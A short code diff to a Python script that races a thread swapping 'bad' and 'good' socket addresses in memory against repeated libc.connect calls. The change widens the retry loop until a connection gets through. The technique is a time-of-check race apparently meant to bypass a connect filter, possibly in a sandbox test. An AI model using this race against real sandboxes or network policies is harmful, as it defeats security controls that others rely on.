@@ -422,8 +422,9 @@ def swap():
         ctypes.memmove(memory, bad, 16)
         ctypes.memmove(memory, good, 16)
 threading.Thread(target=swap).start()
-through = 0
-for i in range(300):
+through = tries = 0
+while tries < 300 or not through and tries < 5000:
+    tries += 1
     s = socket.socket()
     s.settimeout(5); s.setblocking(True)
     if libc.connect(s.fileno(), memory, 16) == 0:
